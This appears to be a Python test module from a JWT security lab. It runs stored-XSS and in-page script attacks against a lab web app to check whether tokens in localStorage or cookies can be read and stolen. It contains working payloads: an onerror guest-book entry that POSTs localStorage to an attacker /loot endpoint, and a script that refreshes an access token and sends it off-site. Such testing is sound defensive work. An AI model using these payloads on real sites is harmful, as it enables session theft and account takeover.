"""A script of the attacker's runs in the page: what it can read, what it can use, what it can carry out."""

from jwtlab.attacks.actors import Lab
from jwtlab.attacks.registry import Evidence, attack


@attack(
    "A guest book entry runs as a script in its reader's page, and carries tokens out.",
    source="ASVS 1.2.1, 3.4.3",
    in_browser=True,
)
def guest_book_entry_takes_tokens(lab: Lab) -> Evidence:
    request = f"'{lab.attacker_at('localhost')}/loot', {{method: 'POST', body: JSON.stringify(localStorage)}}"
    lab.sign_guest_book(f'<img src="x" onerror="fetch({request}).then(() => this.remove())">')
    page = lab.logged_in_page(lab.visitor(), path=lab.front_end)
    page.go(lab.url + "/guestbook/").wait("!document.querySelector('[onerror]')")
    loot = "".join(one["body"] for one in lab.loot())
    shown = "shown as text" if "onerror" in page.text else "run as a script"
    taken = [name for name in ("access", "refresh") if f'"{name}":"eyJ' in loot]
    return Evidence(bool(taken), f"entry {shown}; taken: {', '.join(taken) or 'nothing'}")


@attack(
    "A script in the page reads the tokens in localStorage.",
    source="OWASP HTML5 Security Cheat Sheet",
    in_browser=True,
)
def script_reads_local_storage(lab: Lab) -> Evidence:
    page = lab.logged_in_page(lab.visitor(), path=lab.front_end)
    tokens = page.run("Object.keys(localStorage).filter(key => localStorage[key].startsWith('eyJ')).sort()")
    return Evidence(bool(tokens), f"tokens in localStorage: {', '.join(tokens) or 'none'}")


@attack(
    "A script in the page reads the refresh token in document.cookie.",
    source="ASVS 3.3.4",
    in_browser=True,
)
def script_reads_document_cookie(lab: Lab) -> Evidence:
    page = lab.logged_in_page(lab.visitor())
    readable = page.go(lab.url + "/guestbook/").run("document.cookie")
    names = [cookie.partition("=")[0] for cookie in readable.split("; ")]
    return Evidence("eyJ" in readable, f"document.cookie holds {', '.join(names)}")


@attack(
    "A script in the page uses the session: it gets an access token of its own and carries it out.",
    source="OAuth for Browser-Based Apps, “Acquisition and Extraction of New Tokens”",
    in_browser=True,
)
def script_uses_the_session(lab: Lab) -> Evidence:
    page = lab.logged_in_page(lab.visitor())
    refresh = "fetch('/api/token/refresh/', {method: 'POST', headers: {'X-Auth-Request': '1'}})"
    # By leaving for the attacker's site: no policy stops a page from that.
    carry_out = f"location = '{lab.attacker_at('localhost')}/loot?' + access"
    page.run(f"{refresh}.then(answer => answer.json()).then(({{access}}) => {{ {carry_out} }})")
    page.answer(lab.attacker_at("localhost") + "/loot?")
    mallory = lab.thief({})
    mallory.access = lab.loot()[-1]["query"]
    notes = mallory.notes()
    return Evidence(bool(notes), f"token carried out; it reads {len(notes)} private notes")
